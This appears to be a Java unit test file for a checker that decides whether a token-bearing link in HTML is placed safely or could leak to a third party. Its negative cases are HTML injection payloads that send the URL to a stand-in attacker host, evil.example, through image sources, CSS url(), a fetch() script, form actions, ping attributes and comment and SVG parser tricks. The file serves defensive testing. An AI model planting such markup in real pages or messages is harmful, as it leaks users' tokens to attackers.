package io.ostiary.backend;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinkPlacementTest {
    private static final String LINK = "https://example.com/?token=abc";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "URL",
                "<p>Go to URL now</p>",
                "<a href=\"URL\">here</a>",
                "<A class=x HREF='URL'>URL</A>",
                "<a href=URL>here</a>",
                "<!DOCTYPE html><html><head><style>p { top: 0 }</style></head><body><img src=\"logo.png\">URL</body></html>",
                "<!-- a comment --><p title='a > b'>URL</p>",
                "1 < 2 and <3: URL",
                "<br/>URL"
            })
    void aLinkStandsWellInTextAndAsTheAddressOfAnAnchor(String html) {
        assertThat(isSafe(html)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=\"https://evil.example/?URL\">",
                "<img src='URL'>",
                "<img alt=\">\" src=\"https://evil.example/?URL\">",
                "<img src=https://evil.example/?URL>",
                "<img src='https://evil.example/?\n<p>URL</p>",
                "<img src = \"https://evil.example/?URL\">",
                "<img src=\"https://evil.example/?URL",
                "<a href=\"https://evil.example/?URL\">here</a>",
                "<a href=\"URL\" ping=\"https://evil.example/\">here</a>",
                "<area href=\"URL\">",
                "<p style=\"background: url(https://evil.example/?URL)\">x</p>",
                "<style>p { background: url(https://evil.example/?URL) }</style>",
                "<STYLE>p { background: url(https://evil.example/?URL) }",
                "<script>fetch('https://evil.example/?URL')</script>",
                "<form action=https://evil.example/><input value=\"URL\"></form>",
                "<!--><img src=\"https://evil.example/?-->URL\">",
                "<!-- --!><img src=\"https://evil.example/?-->URL\">",
                "<!-- URL -->",
                "<svg><style><image href=\"https://evil.example/?</style>URL\"></svg>",
                "<x URL>",
                "<xURL>",
                "<?xml URL?>"
            })
    void anywhereElseItCouldBeSentToSomebody(String html) {
        assertThat(isSafe(html)).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<", "<a ", "<a href=", "<a href=\"", "<!--", "<style>", "</", "=", "<a =", "<!", "<a/"})
    void longTextEndsWhateverItRepeats(String part) {
        assertThat(isSafe(part.repeat(5_000))).isIn(true, false);
    }

    private static boolean isSafe(String html) {
        return LinkPlacement.isSafe(html.replace("URL", LINK), LINK);
    }
}
